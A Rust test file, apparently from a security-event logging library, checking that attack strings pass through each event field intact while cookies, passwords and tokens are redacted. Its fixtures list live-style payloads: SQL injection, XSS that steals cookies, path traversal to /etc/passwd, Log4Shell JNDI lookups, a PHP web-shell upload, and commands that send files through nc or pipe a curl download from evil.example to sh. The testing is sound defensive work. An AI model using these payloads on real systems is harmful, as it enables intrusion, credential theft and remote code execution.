//! What an attack looks like, and what must be left of it in every field.

use alloc::format;
use alloc::vec::Vec;

use super::*;

/// Attacks and prose without a secret: each arrives as it is.
const EVIDENCE: [&str; 76] = [
    "1' OR '1'='1",
    "admin'--",
    "1; DROP TABLE users; --",
    "' UNION SELECT username, password FROM users WHERE 'a'='a",
    "1 AND SLEEP(5)#",
    "id=1+OR+1=1",
    "/item?id=1%27%20OR%201=1--",
    "{\"id\": {\"$ne\": null}, \"user\": {\"$gt\": \"\"}}",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "/static/..%252f..%252fetc/shadow",
    "file:///etc/passwd",
    "C:\\..\\..\\windows\\system32\\config\\sam",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=fetch('//evil/'+document.cookie)>",
    "javascript:alert(String.fromCharCode(88,83,83))",
    "\"><iframe src=\"javascript:alert(1)\">",
    "; cat /etc/passwd | nc 192.0.2.1 4444",
    "$(curl http://evil.example/x.sh | sh)",
    "`id`",
    "|| ping -c 10 127.0.0.1 ||",
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
    "http://169.254.169.254/latest/meta-data/iam/",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "%0d%0aSet-Header: injected",
    "user forgot the password and asked for a new token",
    "authorization failed for user 7",
    "password must have at least 12 characters",
    "the secret of this page is its token economy",
    "Basic authentication is required, bearer tokens are refused",
    "password_attempts=5 token_type=x secret_name=y",
    "status code: 403, key: none, session: expired",
    "rate limit exceeded: 120 requests in 60s",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "prompt_tokens=17 max_tokens: 4096",
    "keyboard=us monkey=1 turkey: 2 design=3 passenger=4",
    "std::token::Secret::new at https://h:8080",
    // Nothing but an option of a command has two dashes right in front of its name.
    "the user -- password unknown -- was refused",
    "admin'--password",
    "1 OR 1=1--token x",
    "curl --help; cat --token; wget --password --user",
    "see --password-policy 12 and --token",
    // Comments, lists and blocks.
    "/* password */ SELECT 1 /* token */",
    "password // who knows\nthen more",
    "1/**/UNION/**/SELECT/**/password/**/FROM/**/users",
    "checks:\n- password is missing\n- token is missing\n",
    "password\n- one\n- two\n",
    "[token][error]: expired user[name]=b items[0][id]=7 token[type]=x",
    // Elements, parts and serialized objects.
    "<form action=//evil><input name=password><input type=submit></form>",
    "x(row[\"token\"], \"<script>alert(1)</script>\")",
    "[[\"token\"],[\"<script>\"]] x",
    "<input name=password><img src=x onerror=alert(1)>\nGET /../../etc/hosts",
    "obj[\"password\"], obj[\"cmd\"] = 1, \"id\"",
    "<meta name=\"csrf-token\"><script>alert(1)</script>",
    "<name>user</name><value>b</value>",
    "<key>user</key><string>b</string>",
    "<name>forgot your password</name><value>b</value>",
    "<value>a</value><b/><name>x</name>",
    "Content-Disposition: form-data; name=\"file\"; filename=\"a.php\"\r\n\r\n<?php system('id');",
    "Content-Disposition: attachment; filename=\"password.txt\"\r\n\r\n<?php system('id');",
    "O:4:\"User\":2:{s:4:\"name\";s:1:\"b\";s:2:\"id\";i:1;}",
    "a:1:{s:3:\"cmd\";s:13:\"cat /tmp/x|sh\";}",
    "array(1) {\n  [\"user\"]=>\n  string(1) \"b\"\n}",
    "Array\n(\n    [user] => b\n)\n",
    // Other spellings of what separates.
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "&#60;script&#62;&amp;lt;b&amp;gt;",
    "ＵＮＩＯＮ　ＳＥＬＥＣＴ＇１＇＝＇１",
    "パスワード：無効",
    "q=a+b%3A+c%2C+d",
];

#[test]
fn attacks_and_prose_arrive_as_they_are_in_every_field() {
    let mut encoder = encoder(&AgentConfig::builder("key-of-the-platform").build().unwrap());
    let mut changed = Vec::new();
    for evidence in EVIDENCE {
        let given = SecurityEvent::new(evidence, Timestamp::default())
            .ip_address(evidence)
            .country(evidence)
            .user_agent(evidence)
            .action_taken(evidence)
            .reason(evidence)
            .endpoint(evidence)
            .method(evidence)
            .decorator_type(evidence)
            .rule_type(evidence)
            .pattern_matched(evidence)
            .handler_name(evidence)
            .metadata("m", evidence)
            .metadata("list", json!([evidence, { "x": evidence }]))
            .metadata(evidence, 1)
            .extra("e", evidence);
        let record = encoder.event(&given.idempotency_key(Uuid::nil())).unwrap();
        let escaped = json!(evidence).to_string();
        let found = text(&record).matches(&*escaped).count();
        if found != 17 {
            changed.push(format!("{evidence:?} in {found} of 17: {}", text(&record)));
        }
    }
    assert!(changed.is_empty(), "{}", changed.join("\n"));
}

#[test]
fn what_is_too_long_is_cut_outside_of_metadata() {
    let mut encoder = encoder(&config());
    for opener in ["[", "{", "\"", "{\"a\":", "[1,"] {
        let long = format!("{opener}<script>{}", "x".repeat(8_200));
        let record =
            encoder.event(&event().reason(long.clone()).user_agent(&long).extra("e", long.clone())).unwrap();
        let sent = read_back(&record);
        for sent in [
            &*sent.reason,
            sent.user_agent.as_deref().unwrap(),
            sent.extra.get("e").unwrap().as_str().unwrap(),
        ] {
            assert!(sent.starts_with(&format!("{opener}<script>xxx")), "{sent:.40}");
            assert!(sent.ends_with("x...[TRUNCATED]") && sent.len() == 1_024, "{}", sent.len());
        }
    }
}

#[test]
fn depth_destroys_nothing_outside_of_metadata() {
    let deep = format!("{}\"<script>\"{}", "{\"a\":".repeat(20), "}".repeat(20));
    let secret = format!("{}{{\"password\":\"S3CR3T\"}}{}", "[".repeat(20), "]".repeat(20));
    let record = encoder(&config()).event(&event().reason(deep.clone()).endpoint(&secret)).unwrap();
    let sent = read_back(&record);
    assert_eq!(&*sent.reason, deep);
    assert!(!sent.endpoint.unwrap().contains("S3CR3T"));
}

#[test]
fn naming_a_header_blanks_no_field() {
    let mut encoder = encoder(&config());
    for header in ["cookie:", "Cookie: ", "authorization:", "set-cookie: ", "X-Api-Key: "] {
        for attack in [
            "' OR 1=1 --",
            "<script>alert(1)</script>",
            "${jndi:ldap://evil/a}",
            "../../etc/passwd",
            "x <script>alert(1)</script>",
            "1 UNION SELECT username FROM users",
            "; cat /etc/hosts",
        ] {
            let record = encoder.event(&event().user_agent(format!("{header}{attack}"))).unwrap();
            let sent = read_back(&record).user_agent.unwrap();
            let tail = &attack[attack.len().saturating_sub(8)..];
            assert!(sent.ends_with(tail), "{header}{attack} => {sent}");
        }
        let record = encoder.event(&event().user_agent(format!("{header}a=b; sid=S3CR3T"))).unwrap();
        assert!(!text(&record).contains("S3CR3T"), "{}", text(&record));
    }
}

#[test]
fn a_secret_hides_nothing_of_what_follows_it() {
    let mut encoder = encoder(&config());
    for (given, sent) in [
        ("/search?q=cookie:x&id=1'+OR+1=1", "/search?q=cookie:[REDACTED]&id=1'+OR+1=1"),
        ("/?q=x-api-key:x&cmd=cat+/etc/hosts;id", "/?q=x-api-key:[REDACTED]&cmd=cat+/etc/hosts;id"),
        ("GET /s?q=cookie:x&id[]=1'+OR+1 HTTP/1.1", "GET /s?q=cookie:[REDACTED]&id[]=1'+OR+1 HTTP/1.1"),
        ("q=password:x&id=1'+OR+1=1", "q=password:[REDACTED]&id=1'+OR+1=1"),
        (
            "/r?u=//evil%0d%0aSet-Cookie:%20sid=evil%0d%0aLocation:%20//evil%0d%0a%0d%0a<script>",
            "/r?u=//evil%0d%0aSet-Cookie:%20[REDACTED]%0d%0aLocation:%20//evil%0d%0a%0d%0a<script>",
        ),
        ("/x%0apassword:%20a%0aX:%20<script>", "/x%0apassword:%20[REDACTED]%0aX:%20<script>"),
        ("cookie:a<script>alert(1)</script>", "cookie:[REDACTED]<script>alert(1)</script>"),
        (
            "<a><password password=x>x</password><script>alert(1)</script></a>",
            "<a><password password=[REDACTED]>[REDACTED]</password><script>alert(1)</script></a>",
        ),
        ("/?a=<token&b=1&value=1'+OR+1=1", "/?a=<token&b=1&value=1'+OR+1=1"),
        ("1<token\nContent: ../../etc/hosts", "1<token\nContent: ../../etc/hosts"),
        (
            "<input name=\"password\" value=\"x\" required><script>alert(1)</script>",
            "<input name=\"password\" value=\"[REDACTED]\" required><script>alert(1)</script>",
        ),
        (
            "<token value='a>b' y='<a>'>x</token>'<script>alert(1)</script>",
            "<token value='[REDACTED]' y='<a>'>[REDACTED]</token>'<script>alert(1)</script>",
        ),
        (
            "<token value=\"x\" checked>x</token>a=b <script>alert(1)</script>",
            "<token value=\"[REDACTED]\" checked>[REDACTED]</token>a=b <script>alert(1)</script>",
        ),
        (
            "<input name=\"password\" value=\"x\"><script>alert(1)</script>",
            "<input name=\"password\" value=\"[REDACTED]\"><script>alert(1)</script>",
        ),
        (
            "<meta name=\"csrf-token\" content=\"x\"><script>alert(1)</script>",
            "<meta name=\"csrf-token\" content=\"[REDACTED]\"><script>alert(1)</script>",
        ),
    ] {
        let record = encoder.event(&event().endpoint(given)).unwrap();
        assert_eq!(read_back(&record).endpoint.as_deref(), Some(sent));
    }
}
